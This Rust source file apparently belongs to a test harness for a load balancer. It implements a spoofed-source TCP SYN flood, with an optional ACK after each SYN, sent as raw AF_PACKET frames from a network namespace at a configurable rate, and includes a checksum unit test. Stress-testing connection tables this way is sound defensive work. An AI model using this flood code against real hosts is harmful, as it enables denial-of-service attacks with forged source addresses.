//! A TCP SYN flood from random source addresses, written as raw Ethernet frames through
//! an AF_PACKET socket (the kernel's stack would refuse to send from addresses it does
//! not own, and would answer the SYN-ACKs).
//!
//! Every frame is a well-formed SYN (correct IPv4 and TCP checksums) from a pseudo-random
//! source address in `sources` and a pseudo-random source port, so nearly every frame is
//! a new flow for the balancer's connection table. With [`FloodSpec::ack_after_syn`] each
//! SYN is followed by an ACK of the same flow, as a client completing the handshake would
//! send: the ACK finds the flow's entry and marks it confirmed (l3lb's connection table
//! evicts unconfirmed entries, lone SYNs, first).

use std::{
    ffi::CString,
    io, mem,
    net::{Ipv4Addr, SocketAddrV4},
    os::fd::{AsRawFd, FromRawFd, OwnedFd},
    sync::{
        Arc,
        atomic::{AtomicBool, AtomicU64, Ordering},
    },
    thread::JoinHandle,
    time::{Duration, Instant},
};

use anyhow::{Context, Result, anyhow};

use crate::{Mac, netns::Netns, sock::inet_checksum};

/// Frames handed to the kernel per `sendmmsg` call.
const BATCH: usize = 64;

/// Ethernet + IPv4 + TCP headers, padded to the 60-byte minimum frame.
const FRAME_LEN: usize = 60;

/// What to send: Ethernet addresses, the target and the source range.
#[derive(Debug, Clone, Copy)]
pub struct FloodSpec {
    /// Interface to send on (inside the namespace).
    pub interface: &'static str,
    /// Source MAC (the sending interface's).
    pub src_mac: Mac,
    /// Destination MAC (the balancer's, the VIP's next hop).
    pub dst_mac: Mac,
    /// Destination address and port (a TCP VIP).
    pub target: SocketAddrV4,
    /// First source address of the range.
    pub sources: Ipv4Addr,
    /// Number of source addresses (counted up from `sources`).
    pub source_count: u32,
    /// Frames per second to aim at; `None`: as fast as the sender can.
    pub rate: Option<u64>,
    /// Seed of the pseudo-random sources (the same seed sends the same frames).
    pub seed: u64,
    /// Follow every SYN with an ACK of the same flow (half the frames are then ACKs).
    pub ack_after_syn: bool,
}

/// How a flood went.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct FloodReport {
    /// Frames the kernel accepted for sending.
    pub frames: u64,
    /// Wall time the sender ran.
    pub seconds: f64,
}

impl FloodReport {
    /// Frames per second.
    pub fn rate(&self) -> f64 {
        if self.seconds > 0.0 {
            self.frames as f64 / self.seconds
        } else {
            0.0
        }
    }
}

/// A running flood; [`SynFlood::stop`] ends it (dropping it does too).
#[derive(Debug)]
pub struct SynFlood {
    stop: Arc<AtomicBool>,
    sent: Arc<AtomicU64>,
    thread: Option<JoinHandle<Result<FloodReport>>>,
}

impl SynFlood {
    /// Starts sending from `ns` on a thread of its own.
    pub fn start(ns: &Netns, spec: FloodSpec) -> Result<SynFlood> {
        let stop = Arc::new(AtomicBool::new(false));
        let sent = Arc::new(AtomicU64::new(0));
        let thread = ns.spawn_thread("syn-flood", {
            let (stop, sent) = (stop.clone(), sent.clone());
            move || send_loop(&spec, &stop, &sent)
        })?;
        Ok(SynFlood {
            stop,
            sent,
            thread: Some(thread),
        })
    }

    /// Frames sent so far.
    pub fn sent(&self) -> u64 {
        self.sent.load(Ordering::Relaxed)
    }

    /// Stops the sender and returns what it did.
    pub fn stop(mut self) -> Result<FloodReport> {
        self.finish()
    }

    fn finish(&mut self) -> Result<FloodReport> {
        self.stop.store(true, Ordering::Relaxed);
        let thread = self
            .thread
            .take()
            .ok_or_else(|| anyhow!("the flood was already stopped"))?;
        thread
            .join()
            .map_err(|_| anyhow!("the flood thread panicked"))?
    }
}

impl Drop for SynFlood {
    fn drop(&mut self) {
        if self.thread.is_some() {
            let _ = self.finish();
        }
    }
}

/// xorshift64*: fast, and good enough to spread sources over the connection table.
fn next(state: &mut u64) -> u64 {
    *state ^= *state >> 12;
    *state ^= *state << 25;
    *state ^= *state >> 27;
    state.wrapping_mul(0x2545_f491_4f6c_dd1d)
}

/// TCP flags of a SYN.
const SYN: u8 = 0x02;
/// TCP flags of a bare ACK.
const ACK: u8 = 0x10;

/// Writes one segment with `flags` from `src:sport` into `frame` (headers fixed by
/// [`template`]).
fn fill(frame: &mut [u8; FRAME_LEN], src: Ipv4Addr, sport: u16, seq: u32, flags: u8) {
    frame[26..30].copy_from_slice(&src.octets());
    frame[24..26].fill(0);
    let ip_sum = inet_checksum(&frame[14..34]);
    frame[24..26].copy_from_slice(&ip_sum.to_be_bytes());
    frame[34..36].copy_from_slice(&sport.to_be_bytes());
    frame[38..42].copy_from_slice(&seq.to_be_bytes());
    frame[47] = flags;
    // An ACK acknowledges something; what does not matter to the balancer.
    let ack = if flags & ACK != 0 {
        seq ^ 0x5a5a_5a5a
    } else {
        0
    };
    frame[42..46].copy_from_slice(&ack.to_be_bytes());
    frame[50..52].fill(0);
    // Pseudo-header (source, destination, protocol, TCP length) and the TCP header.
    let mut pseudo = [0u8; 32];
    pseudo[0..8].copy_from_slice(&frame[26..34]);
    pseudo[9] = 6;
    pseudo[11] = 20;
    pseudo[12..32].copy_from_slice(&frame[34..54]);
    let tcp_sum = inet_checksum(&pseudo);
    frame[50..52].copy_from_slice(&tcp_sum.to_be_bytes());
}

/// The frame's constant parts: Ethernet, IPv4 (no options, DF) and a SYN header.
fn template(spec: &FloodSpec) -> [u8; FRAME_LEN] {
    let mut f = [0u8; FRAME_LEN];
    f[0..6].copy_from_slice(&spec.dst_mac.0);
    f[6..12].copy_from_slice(&spec.src_mac.0);
    f[12..14].copy_from_slice(&0x0800u16.to_be_bytes());
    f[14] = 0x45;
    f[16..18].copy_from_slice(&40u16.to_be_bytes());
    f[20] = 0x40; // DF
    f[22] = 64; // TTL
    f[23] = 6; // TCP
    f[30..34].copy_from_slice(&spec.target.ip().octets());
    f[36..38].copy_from_slice(&spec.target.port().to_be_bytes());
    f[46] = 5 << 4; // data offset: 5 words
    f[47] = SYN;
    f[48..50].copy_from_slice(&64240u16.to_be_bytes());
    f
}

fn send_loop(spec: &FloodSpec, stop: &AtomicBool, sent: &AtomicU64) -> Result<FloodReport> {
    let fd = packet_socket(spec.interface)?;
    let base = template(spec);
    let mut frames = [base; BATCH];
    let mut rng = spec.seed | 1;
    let start = Instant::now();
    let mut total = 0u64;
    let span = spec.source_count.max(1);
    while !stop.load(Ordering::Relaxed) {
        if let Some(rate) = spec.rate {
            // Ahead of schedule: wait until the batch is due.
            let due = Duration::from_secs_f64(total as f64 / rate.max(1) as f64);
            let now = start.elapsed();
            if due > now {
                std::thread::sleep((due - now).min(Duration::from_millis(10)));
                continue;
            }
        }
        let mut r = 0;
        for (i, frame) in frames.iter_mut().enumerate() {
            let follow = spec.ack_after_syn && i % 2 == 1;
            if !follow {
                r = next(&mut rng);
            }
            let offset = u32::try_from(r % u64::from(span)).unwrap_or(0);
            let src = Ipv4Addr::from(u32::from(spec.sources).wrapping_add(offset));
            // Ports from 1024: the high 16 bits of the draw, kept clear of well-known ones.
            let sport = 1024 + (((r >> 32) as u16) % (u16::MAX - 1024));
            let seq = (r >> 16) as u32;
            if follow {
                fill(frame, src, sport, seq.wrapping_add(1), ACK);
            } else {
                fill(frame, src, sport, seq, SYN);
            }
        }
        let n = send_batch(&fd, &frames)?;
        total += n as u64;
        sent.store(total, Ordering::Relaxed);
    }
    Ok(FloodReport {
        frames: total,
        seconds: start.elapsed().as_secs_f64(),
    })
}

/// Hands `frames` to the kernel in one `sendmmsg`; returns how many it took (a full
/// transmit queue takes fewer, which is the sender's speed limit, not an error).
fn send_batch(fd: &OwnedFd, frames: &[[u8; FRAME_LEN]; BATCH]) -> Result<usize> {
    let mut iovs: [libc::iovec; BATCH] = std::array::from_fn(|i| libc::iovec {
        iov_base: frames[i].as_ptr() as *mut libc::c_void,
        iov_len: FRAME_LEN,
    });
    // SAFETY: mmsghdr is plain old data; all-zero is valid (no name, no control data).
    let mut msgs: [libc::mmsghdr; BATCH] = unsafe { mem::zeroed() };
    for (msg, iov) in msgs.iter_mut().zip(iovs.iter_mut()) {
        msg.msg_hdr.msg_iov = iov;
        msg.msg_hdr.msg_iovlen = 1;
    }
    // SAFETY: every header points to one live iovec over a live frame; the socket is
    // bound to the interface, so no destination address is needed.
    let n = unsafe { libc::sendmmsg(fd.as_raw_fd(), msgs.as_mut_ptr(), BATCH as libc::c_uint, 0) };
    if n < 0 {
        let e = io::Error::last_os_error();
        return match e.raw_os_error() {
            Some(libc::ENOBUFS | libc::EAGAIN) => Ok(0),
            _ => Err(e).context("sendmmsg on the flood's packet socket"),
        };
    }
    Ok(usize::try_from(n).unwrap_or(0))
}

/// A send-only AF_PACKET socket bound to `ifname` (protocol 0: it receives nothing).
fn packet_socket(ifname: &str) -> Result<OwnedFd> {
    // SAFETY: socket(2) with constant arguments; the result is checked.
    let raw = unsafe { libc::socket(libc::AF_PACKET, libc::SOCK_RAW | libc::SOCK_CLOEXEC, 0) };
    if raw < 0 {
        return Err(io::Error::last_os_error()).context("socket(AF_PACKET)");
    }
    // SAFETY: `raw` is a fresh descriptor nothing else owns.
    let fd = unsafe { OwnedFd::from_raw_fd(raw) };
    let name = CString::new(ifname).context("interface name contains NUL")?;
    // SAFETY: `name` is a valid C string; the lookup happens in this thread's namespace.
    let ifindex = unsafe { libc::if_nametoindex(name.as_ptr()) };
    if ifindex == 0 {
        return Err(io::Error::last_os_error()).with_context(|| format!("no interface {ifname}"));
    }
    // SAFETY: sockaddr_ll is plain old data; all-zero is valid.
    let mut addr: libc::sockaddr_ll = unsafe { mem::zeroed() };
    addr.sll_family = libc::AF_PACKET as u16;
    addr.sll_ifindex = i32::try_from(ifindex)?;
    // SAFETY: `addr` is a valid sockaddr_ll of the stated size.
    let rc = unsafe {
        libc::bind(
            raw,
            (&raw const addr).cast(),
            mem::size_of::<libc::sockaddr_ll>() as libc::socklen_t,
        )
    };
    if rc < 0 {
        return Err(io::Error::last_os_error()).with_context(|| format!("binding to {ifname}"));
    }
    Ok(fd)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_carry_valid_checksums() {
        let spec = FloodSpec {
            interface: "eth0",
            src_mac: Mac([2, 0, 0, 0, 0, 1]),
            dst_mac: Mac([2, 0, 0, 0, 0, 2]),
            target: SocketAddrV4::new(Ipv4Addr::new(10, 77, 100, 10), 80),
            sources: Ipv4Addr::new(198, 18, 0, 0),
            source_count: 1 << 17,
            rate: None,
            seed: 7,
            ack_after_syn: false,
        };
        let mut frame = template(&spec);
        fill(&mut frame, Ipv4Addr::new(198, 18, 3, 4), 40000, 12345, SYN);
        assert_eq!(inet_checksum(&frame[14..34]), 0, "IPv4 header checksum");
        let mut pseudo = Vec::new();
        pseudo.extend_from_slice(&frame[26..34]);
        pseudo.extend_from_slice(&[0, 6, 0, 20]);
        pseudo.extend_from_slice(&frame[34..54]);
        assert_eq!(inet_checksum(&pseudo), 0, "TCP checksum");
        assert_eq!(&frame[34..36], &40000u16.to_be_bytes());
        assert_eq!(frame[47], SYN, "SYN only");
        fill(&mut frame, Ipv4Addr::new(198, 18, 3, 4), 40000, 12346, ACK);
        assert_eq!(inet_checksum(&frame[14..34]), 0, "IPv4 header checksum");
        let mut pseudo = Vec::new();
        pseudo.extend_from_slice(&frame[26..34]);
        pseudo.extend_from_slice(&[0, 6, 0, 20]);
        pseudo.extend_from_slice(&frame[34..54]);
        assert_eq!(inet_checksum(&pseudo), 0, "TCP checksum of the ACK");
        assert_eq!(frame[47], ACK, "ACK only");
    }
}
